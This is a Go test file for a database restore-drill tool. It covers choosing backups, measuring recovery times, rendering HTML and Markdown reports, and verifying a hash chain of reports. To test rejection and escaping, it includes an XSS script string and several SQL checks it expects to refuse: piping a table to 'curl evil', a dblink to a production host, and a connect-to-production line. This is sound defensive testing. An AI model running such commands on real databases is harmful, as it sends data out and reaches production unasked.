package drill_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/envdb/envdb"
	"github.com/envdb/envdb/backup"
	"github.com/envdb/envdb/internal/drill"
)

var now = time.Date(2026, 11, 20, 12, 0, 0, 0, time.UTC)

func ago(d time.Duration) time.Time { return now.Add(-d) }

// taken is a backup of that age.
func taken(age time.Duration, proven bool) backup.Backup {
	at := ago(age)
	return backup.Backup{Manifest: &backup.Manifest{ID: envdb.NewBackupID(at), Environment: "prod", Point: at}, GoodUntil: at, Proven: proven}
}

func at(t *testing.T, text string) drill.At {
	t.Helper()
	a, err := drill.ParseAt(text, now, time.UTC)
	if err != nil {
		t.Fatal(err)
	}
	if text != "" && a.String() != text {
		t.Errorf("%q is shown as %q", text, a)
	}
	return a
}

func TestParseAtRefuses(t *testing.T) {
	t.Parallel()
	for _, text := range []string{"yesterdy", "random", "random -1d", "random x", "t-", "2027-01-01 00:00", "2026-11-20", "each rung"} {
		_, err := drill.ParseAt(text, now, time.UTC)
		if _, next := envdb.Advice(err); !errors.Is(err, envdb.ErrMisuse) || next == "" {
			t.Errorf("%q: got %v, next %q", text, err, next)
		}
	}
}

func TestChoose(t *testing.T) {
	t.Parallel()
	bad := taken(100*envdb.Day, false)
	bad.Bad = true
	c := drill.Choosing{
		Backups: []backup.Backup{bad, taken(40*envdb.Day, true), taken(2*envdb.Day, false), taken(time.Hour, false), taken(time.Minute, true)},
		Rungs:   []time.Duration{time.Minute, time.Hour, envdb.Day}, Now: now, Zone: time.UTC, Seed: 7,
	}
	for text, want := range map[string]string{
		"": "latest", "latest": "latest", "t-1d": ago(envdb.Day).Format(time.RFC3339), "oldest": string(envdb.NewBackupID(ago(40 * envdb.Day))),
		"longest-unproven": string(envdb.NewBackupID(ago(2 * envdb.Day))),
	} {
		choice, err := at(t, text).Choose(c)
		if err != nil || choice.Point.String() != want {
			t.Errorf("%q: got %s, %v, want %s", text, choice.Point, err, want)
		}
	}
	var rungs []string
	for c.Before = range 4 {
		choice, err := at(t, "each-rung").Choose(c)
		if err != nil {
			t.Fatal(err)
		}
		moment, _ := choice.Point.Moment()
		rungs = append(rungs, envdb.FormatDuration(now.Sub(moment)))
	}
	if want := []string{"1m", "1h", "1d", "1m"}; !slices.Equal(rungs, want) {
		t.Errorf("the rungs are %v, want %v", rungs, want)
	}
	seen := map[time.Time]bool{}
	for seed := range uint64(50) {
		c.Seed = seed
		first, err := at(t, "random 30d").Choose(c)
		again, _ := at(t, "random 30d").Choose(c)
		moment, dated := first.Point.Moment()
		if err != nil || first != again || !dated || moment.After(now) || moment.Before(ago(30*envdb.Day)) {
			t.Errorf("seed %d: %v then %v, %v", seed, first, again, err)
		}
		seen[moment] = true
	}
	if len(seen) < 40 {
		t.Errorf("50 seeds chose %d moments", len(seen))
	}
	if _, err := at(t, "each-rung").Choose(drill.Choosing{Now: now}); !errors.Is(err, envdb.ErrMisuse) {
		t.Errorf("without a ladder: %v", err)
	}
	for _, text := range []string{"oldest", "random 1d"} {
		if _, err := at(t, text).Choose(drill.Choosing{Now: now}); !errors.Is(err, envdb.ErrNotFound) {
			t.Errorf("%s without backups: %v", text, err)
		}
	}
	// Whatever is proven already, something is drilled.
	if choice, err := at(t, "longest-unproven").Choose(drill.Choosing{Backups: []backup.Backup{taken(time.Hour, true)}, Now: now}); err != nil || !choice.Point.IsLatest() {
		t.Errorf("all proven: %v, %v", choice, err)
	}
}

func TestGap(t *testing.T) {
	t.Parallel()
	c := func(from, until time.Duration) drill.Covered {
		return drill.Covered{From: ago(from), Until: ago(until)}
	}
	for name, one := range map[string]struct {
		points []drill.Covered
		want   time.Duration
	}{
		"since the newest":          {[]drill.Covered{c(time.Hour, time.Hour)}, time.Hour},
		"between two":               {[]drill.Covered{c(10*time.Minute, 10*time.Minute), c(5*time.Hour, 5*time.Hour)}, 5*time.Hour - 10*time.Minute},
		"an idle stretch is no gap": {[]drill.Covered{c(20*time.Hour, time.Minute)}, time.Minute},
		"only within the window":    {[]drill.Covered{c(100*time.Hour, 100*time.Hour), c(23*time.Hour, 23*time.Hour), c(0, 0)}, 23 * time.Hour},
		"overlapping":               {[]drill.Covered{c(20*time.Hour, time.Hour), c(10*time.Hour, 9*time.Hour), c(0, 0)}, time.Hour},
	} {
		if got, any := drill.Gap(one.points, now, envdb.Day); !any || got != one.want {
			t.Errorf("%s: got %s, want %s", name, got, one.want)
		}
	}
	if _, any := drill.Gap(nil, now, envdb.Day); any {
		t.Error("no points have a gap")
	}
}

func TestTrend(t *testing.T) {
	t.Parallel()
	var past []drill.Past
	for day := range 20 {
		p := drill.Past{At: ago(time.Duration(20-day) * envdb.Day), Outcome: drill.Pass, RTO: 10*time.Minute + time.Duration(day)*10*time.Second}
		if day%6 == 5 {
			p.RTO *= 3 // a slow night bends nothing
		}
		past = append(past, p)
	}
	trend := drill.TrendOf(past, 15*time.Minute, now)
	if trend == nil || trend.PerDay < 8*time.Second || trend.PerDay > 14*time.Second || trend.Crosses == nil {
		t.Fatalf("got %+v", trend)
	}
	if days := trend.Crosses.Sub(now).Hours() / 24; days < 5 || days > 15 || !strings.Contains(trend.Warning(), "passes its objective") {
		t.Errorf("it crosses in %.1f days: %s", days, trend.Warning())
	}
	if far := drill.TrendOf(past, 5*time.Hour, now); far.Crosses != nil || far.Warning() != "" {
		t.Errorf("it crosses at %v", far.Crosses)
	}
	if few := drill.TrendOf(past[:4], time.Minute, now); few != nil {
		t.Errorf("four drills have a trend: %+v", few)
	}
}

// report is one that shows everything.
func report() *drill.Report {
	fresh, gap := 3*time.Minute, time.Hour
	r := &drill.Report{
		Version: drill.ReportVersion, Number: 3, Previous: "abc", Run: "20261120-120000-abcdefgh", Project: "acme", Drill: "weekly", Scenario: "drop-table",
		From: "staging", Into: "staging", At: "t-1d", Asked: ago(envdb.Day), Why: "as asked", Backup: "20261119-115800", Point: ago(envdb.Day + 2*time.Minute), GoodUntil: ago(envdb.Day + time.Minute),
		Release: `v1.2 <script>alert("x")</script>`, Migration: "42 (goose)", Started: now, Finished: now.Add(100 * time.Second), Elapsed: 100 * time.Second,
		Phases: []drill.Phase{
			{Name: "choose", Took: time.Second, Counts: true}, {Name: "load", Took: 60 * time.Second, Bytes: 600 << 20, Counts: true},
			{Name: "copy", Parent: "load", Took: 40 * time.Second, Bytes: 600 << 20}, {Name: "build indexes", Parent: "load", Took: 15 * time.Second},
			{Name: "check", Took: 38 * time.Second, Counts: true}, {Name: "discard", Took: time.Second},
		},
		Checks: []drill.Check{
			{Name: "objects", Outcome: drill.Pass, Covers: "450 objects"}, {Name: "amcheck", Outcome: drill.Skipped, Reason: "there is | no amcheck"},
			{Name: "sql: money.sql", Outcome: drill.Warned, Findings: []string{"12 rows, and 0 rows expected"}, Found: 1},
		},
		Accident:   &drill.Accident{What: "the largest table is dropped", SQL: []string{`DROP TABLE "Ünï ""q"" <t>" CASCADE`}, At: now, Before: "1", Broken: "2", After: "1", Lost: []string{"table a has 3 rows and had 4"}},
		Objectives: drill.Objectives{RTO: 15 * time.Minute, RPO: 5 * time.Minute},
		Measured:   drill.Measured{RTO: 99 * time.Second, Behind: time.Minute, Freshness: &fresh, WorstGap: &gap, Window: envdb.Day},
		Past:       []drill.Past{{Number: 1, At: ago(2 * envdb.Day), Outcome: drill.Pass, RTO: 90 * time.Second}, {Number: 2, At: ago(envdb.Day), Outcome: drill.Fail, RTO: 95 * time.Second}},
		Ladder:     []drill.LadderPoint{{Backup: "20261119-115800", At: ago(envdb.Day), Until: ago(23 * time.Hour), Chosen: true}, {Backup: "20261120-115900", At: ago(time.Minute), Proven: true}},
		Tables:     26, Rows: 520184, Bytes: 30 << 20, Machine: "backup-1", Envdb: "v1", Source: "PostgreSQL 15.18", Target: "PostgreSQL 17.6",
	}
	r.Verdicts = r.Objectives.Judge(r.Measured)
	return r
}

func TestConclude(t *testing.T) {
	t.Parallel()
	r := report()
	r.Conclude(nil)
	if r.Outcome != drill.Pass || !strings.Contains(r.Summary, "1 check passed, 1 skipped, 1 warning") || !r.Whole() {
		t.Errorf("%s: %s", r.Outcome, r.Summary)
	}
	if !r.Whole("row fingerprints") || r.Whole("amcheck") {
		t.Error("only what is essential and skipped keeps it from being the whole")
	}
	r.Sampled = "a part"
	if r.Whole() {
		t.Error("a sample proves the whole")
	}
	slow := report()
	slow.Objectives.RTO = time.Minute
	slow.Verdicts = slow.Objectives.Judge(slow.Measured)
	slow.Conclude(nil)
	if slow.Outcome != drill.Fail || !strings.Contains(slow.Summary, "RTO 1m39s, and 1m is the objective") {
		t.Errorf("%s: %s", slow.Outcome, slow.Summary)
	}
	wrong := report()
	c := drill.Check{Name: "row counts", Contradicts: true}
	for i := range drill.MaxFindings + 5 {
		c.Find(fmt.Sprintf("table %d", i))
	}
	wrong.Checks = append(wrong.Checks, c)
	wrong.Conclude(nil)
	if wrong.Outcome != drill.Fail || !wrong.Doubts() || !strings.Contains(wrong.Summary, "row counts: table 0 and 24 more") || len(wrong.Checks[3].Findings) != drill.MaxFindings {
		t.Errorf("%s: %s", wrong.Outcome, wrong.Summary)
	}
	broken := report()
	broken.Conclude(envdb.Fail(envdb.ErrUnreachable, "the server is gone").WithNext("start it"))
	if broken.Outcome != drill.Fail || broken.Error != "the server is gone" || broken.Next != "start it" {
		t.Errorf("%+v", broken)
	}
	if rest := report().Unaccounted(); rest != 0 {
		t.Errorf("%s of the time is of no phase", rest)
	}
}

// The page needs nothing from anywhere, and no text of a database becomes markup.
func TestPage(t *testing.T) {
	t.Parallel()
	r := report()
	r.Conclude(nil)
	page, err := r.HTML()
	if err != nil {
		t.Fatal(err)
	}
	if found := regexp.MustCompile(`(?i)<script|https?://|src=|@import|url\(|NaN|Inf`).Find(page); found != nil {
		t.Errorf("the page holds %q", found)
	}
	for _, want := range []string{"Restore drill 3", "PASS", "&lt;script&gt;", "RTO over time", "objective 15m", "What could be restored", "asked for", "The accident", "Ünï", "520,184 rows", "no amcheck"} {
		if !bytes.Contains(page, []byte(want)) {
			t.Errorf("the page does not hold %q", want)
		}
	}
	for name, empty := range map[string]*drill.Report{"empty": {}, "failed early": {Number: 1, Started: now, Outcome: drill.Fail, Objectives: drill.Objectives{RTO: time.Minute}}} {
		if page, err := empty.HTML(); err != nil || bytes.Contains(page, []byte("NaN")) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestMarkdown(t *testing.T) {
	t.Parallel()
	r := report()
	r.Conclude(nil)
	text := r.Markdown()
	for _, want := range []string{
		"# Restore drill 3 (weekly): PASS", "| RTO | at most 15m | 1m39s | ✓ pass |", "| – copy | 40s | 40.0 % | 600 MiB, 15 MiB/s |",
		`| amcheck | – skipped |  | there is \| no amcheck |`, "* table a has 3 rows and had 4", "SHA-256 of the report before it: `abc`",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("%q is missing in\n%s", want, text)
		}
	}
}

// chain is of n reports.
func chain(t *testing.T, n int) (links []drill.Link, noted map[string]string) {
	t.Helper()
	noted = map[string]string{}
	previous := ""
	for number := 1; number <= n; number++ {
		r := report()
		r.Number, r.Previous, r.Run = number, previous, fmt.Sprint("run-", number)
		raw, hash, err := r.Encode()
		if err != nil {
			t.Fatal(err)
		}
		previous = hash
		noted[r.Run] = hash
		links = append(links, drill.Link{Number: number, Raw: raw})
	}
	return links, noted
}

func TestChain(t *testing.T) {
	t.Parallel()
	links, noted := chain(t, 4)
	if v := drill.Verify(slices.Clone(links), noted); len(v.Broken) != 0 || v.Reports != 4 || v.Last != drill.Hash(links[3].Raw) {
		t.Errorf("got %+v", v)
	}
	if v := drill.Verify(nil, nil); len(v.Broken) != 0 || v.Reports != 0 {
		t.Errorf("of nothing: %+v", v)
	}
	for name, c := range map[string]struct {
		change func([]drill.Link) []drill.Link
		says   string
	}{
		"one is changed": {func(l []drill.Link) []drill.Link {
			l[1].Raw = bytes.Replace(l[1].Raw, []byte(`"rows": 520184`), []byte(`"rows": 520185`), 1)
			return l
		}, "report 3 follows another report 2"},
		"one is taken away":    {func(l []drill.Link) []drill.Link { return slices.Delete(l, 1, 2) }, "report 2 is missing"},
		"the last is cut off":  {func(l []drill.Link) []drill.Link { return l[:3] }, "the report of run run-4 is missing"},
		"two change places":    {func(l []drill.Link) []drill.Link { l[1].Raw, l[2].Raw = l[2].Raw, l[1].Raw; return l }, "says that it is number 3"},
		"one cannot be read":   {func(l []drill.Link) []drill.Link { l[2].Err = errors.New("damaged"); return l }, "report 3 cannot be read: damaged"},
		"the last is replaced": {func(l []drill.Link) []drill.Link { l[3].Raw = append(l[3].Raw, ' '); return l }, "not the one whose hash run run-4 noted"},
		"one is no report":     {func(l []drill.Link) []drill.Link { l[0].Raw = []byte("{"); return l }, "report 1: it is no report"},
		"one is newer":         {func(l []drill.Link) []drill.Link { l[0].Raw = []byte(`{"version": 2}`); return l }, "version 2"},
	} {
		links, noted := chain(t, 4)
		v := drill.Verify(c.change(links), noted)
		if !strings.Contains(strings.Join(v.Broken, "\n"), c.says) {
			t.Errorf("%s: got %q, want %q", name, v.Broken, c.says)
		}
	}
}

// What is stored can be read again, whole.
func TestEncode(t *testing.T) {
	t.Parallel()
	r := report()
	r.Conclude(nil)
	raw, _, err := r.Encode()
	if err != nil {
		t.Fatal(err)
	}
	back, err := drill.Decode(raw)
	if err != nil {
		t.Fatal(err)
	}
	again, _ := json.MarshalIndent(back, "", "  ")
	if !bytes.Equal(append(again, '\n'), raw) {
		t.Error("the report is not what it was")
	}
}

func TestEvidence(t *testing.T) {
	t.Parallel()
	links, noted := chain(t, 2)
	var exhibits []drill.Exhibit
	for _, l := range links {
		r, err := drill.Decode(l.Raw)
		if err != nil {
			t.Fatal(err)
		}
		r.Outcome = drill.Pass
		exhibits = append(exhibits, drill.Exhibit{Report: r, Raw: l.Raw})
	}
	index, err := drill.Index(exhibits, drill.Verify(links, noted), ago(envdb.Day), now)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"CP-9(1)", "A1.3", "A.8.13", "drill-000002.html", drill.Hash(links[0].Raw), "is whole", "2 passed"} {
		if !bytes.Contains(index, []byte(want)) {
			t.Errorf("the index does not hold %q", want)
		}
	}
}

func TestUserCheck(t *testing.T) {
	t.Parallel()
	text := func(s string) *string { return &s }
	for _, c := range []struct {
		sql   string
		rows  int
		value *string
		wrong string
		warn  bool
	}{
		{"SELECT 1 WHERE false", 0, nil, "", false},
		{"SELECT 1", 1, text("1"), "1 row, and 0 rows expected", false},
		{"-- expect: 3 rows\nSELECT 1", 3, text("1"), "", false},
		{"-- expect: rows > 10\n-- severity: warn\nSELECT 1", 3, text("1"), "3 rows, and rows > 10 expected", true},
		{"-- expect: value > 1000\nSELECT 1", 1, text("1001"), "", false},
		{"--expect:value>1000\nSELECT 1", 1, text("999"), "the value is 999, and value > 1000 expected", false},
		{"-- expect: value = 'shipped'\nSELECT 1", 1, text("shipped"), "", false},
		{"-- expect: value <> 0\nSELECT NULL", 1, nil, "no value, and value <> 0 expected", false},
		{"-- expect: value >= 1e3\nSELECT 1", 1, text("1000.0"), "", false},
	} {
		check, err := drill.ParseUserCheck("a.sql", c.sql)
		if err != nil {
			t.Errorf("%q: %v", c.sql, err)
			continue
		}
		if got := check.Judge(c.rows, c.value); got != c.wrong || check.Warn != c.warn {
			t.Errorf("%q: got %q, warn %t", c.sql, got, check.Warn)
		}
	}
	for sql, where := range map[string]string{
		"-- expect: many rows\nSELECT 1":                      "a.sql:1:",
		"SELECT 1;\n-- severity: dreadful":                    "a.sql:2:",
		"-- expect: 0 rows\n-- expect: 1 rows\nSELECT 1":      "a.sql:2:",
		"SELECT 1;\n\\connect production":                     "a.sql:2:",
		"SELECT * FROM dblink('host=prod', 'x') AS t(a int);": "a.sql:1:",
		"COPY t TO PROGRAM 'curl evil'":                       "a.sql:1:",
		"-- only a comment":                                   "a.sql:1:",
	} {
		if _, err := drill.ParseUserCheck("a.sql", sql); !errors.Is(err, envdb.ErrMisuse) || !strings.Contains(err.Error(), where) {
			t.Errorf("%q: got %v", sql, err)
		}
	}
}

func TestScenarios(t *testing.T) {
	t.Parallel()
	for _, name := range drill.ScenarioNames() {
		if s, err := drill.ParseScenario(name); err != nil || string(s) != name {
			t.Errorf("%s: %v", name, err)
		}
	}
	if _, err := drill.ParseScenario("flood"); !errors.Is(err, envdb.ErrMisuse) {
		t.Errorf("got %v", err)
	}
	if drill.Restore.Damages() || drill.Earthquake.Damages() || !drill.DropDatabase.Damages() {
		t.Error("what damages is not what does")
	}
}
